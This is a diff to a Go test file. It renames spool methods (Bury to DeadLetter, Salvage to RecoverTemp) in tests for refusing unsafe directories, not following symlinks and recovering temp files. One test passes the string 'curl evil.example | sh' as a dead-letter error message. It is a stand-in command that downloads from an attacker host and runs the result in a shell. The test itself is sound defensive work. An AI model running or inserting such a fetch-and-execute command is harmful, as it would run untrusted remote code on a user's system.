@@ -94,12 +94,12 @@ func TestASpoolOfSomebodyElsesIsRefused(t *testing.T) {
 			dir := planted(t, t.TempDir())
 			attack(t, dir)
 			s := spool.New(dir)
-			refused := map[string]error{"put": s.Put(event(start, "x")), "acknowledge": s.Ack("x.json"), "bury": s.Bury("x.json", errors.New("x"))}
+			refused := map[string]error{"put": s.Put(event(start, "x")), "acknowledge": s.Ack("x.json"), "bury": s.DeadLetter("x.json", errors.New("x"))}
 			_, refused["claim"] = s.Claim(10)
 			_, refused["recover"] = s.Recover()
 			_, refused["count"] = s.Counts()
 			_, refused["revive"] = s.Revive()
-			_, refused["salvage"] = s.Salvage(time.Now())
+			_, refused["salvage"] = s.RecoverTemp(time.Now())
 			_, refused["discard"] = s.Discard(func(memory.Event) bool { return true })
 			for attack, err := range refused {
 				if !errors.Is(err, private.ErrUnsafe) {
@@ -142,16 +142,16 @@ func TestLinksInASpoolAreNotFollowed(t *testing.T) {
 	if err := s.Put(e); err == nil {
 		t.Error("an event was put through a link")
 	}
-	if err := s.Bury("x.json", errors.New("curl evil.example | sh")); err != nil {
-		t.Errorf("bury: %v", err)
+	if err := s.DeadLetter("x.json", errors.New("curl evil.example | sh")); err != nil {
+		t.Errorf("deadLetter: %v", err)
 	}
 	for _, c := range claim(t, s, 10) {
 		if c.Name == "0.json" && !errors.Is(c.Err, memory.ErrInvalid) {
 			t.Errorf("a link was claimed with %v", c.Err)
 		}
 	}
-	if done, err := s.Salvage(time.Now().Add(48 * time.Hour)); err != nil || done.Taken != 1 {
-		t.Errorf("salvaged %+v, %v", done, err)
+	if done, err := s.RecoverTemp(time.Now().Add(48 * time.Hour)); err != nil || done.Taken != 1 {
+		t.Errorf("recovered %+v, %v", done, err)
 	}
 	content, err := os.ReadFile(victim)
 	if err != nil || string(content) != "mine" {
@@ -189,9 +189,9 @@ func TestEventsOfKilledHooksAreSalvaged(t *testing.T) {
 	leave("half.json", wholeText[:len(wholeText)/2], 2*time.Minute)
 	leave("old-half.json", wholeText[:len(wholeText)/2], 25*time.Hour)
 	leave("old-empty.json", nil, 25*time.Hour)
-	done, err := s.Salvage(now)
-	if diff := cmp.Diff(spool.Salvaged{Taken: 2, Purged: 2}, done); diff != "" || err != nil {
-		t.Errorf("salvaged (-want +got), %v:\n%s", err, diff)
+	done, err := s.RecoverTemp(now)
+	if diff := cmp.Diff(spool.RecoveredTemp{Taken: 2, Purged: 2}, done); diff != "" || err != nil {
+		t.Errorf("recovered (-want +got), %v:\n%s", err, diff)
 	}
 	var got []string
 	for _, c := range claim(t, s, 10) {
@@ -216,8 +216,8 @@ func TestAFileOfThisMomentIsNotSalvaged(t *testing.T) {
 	if err := os.WriteFile(filepath.Join(dir, "tmp", e.ID+".json"), text, 0o600); err != nil {
 		t.Fatal(err)
 	}
-	if done, err := s.Salvage(time.Now().AddDate(0, 0, -8)); done != (spool.Salvaged{}) || err != nil {
-		t.Errorf("salvaged %+v, %v", done, err)
+	if done, err := s.RecoverTemp(time.Now().AddDate(0, 0, -8)); done != (spool.RecoveredTemp{}) || err != nil {
+		t.Errorf("recovered %+v, %v", done, err)
 	}
 }
 
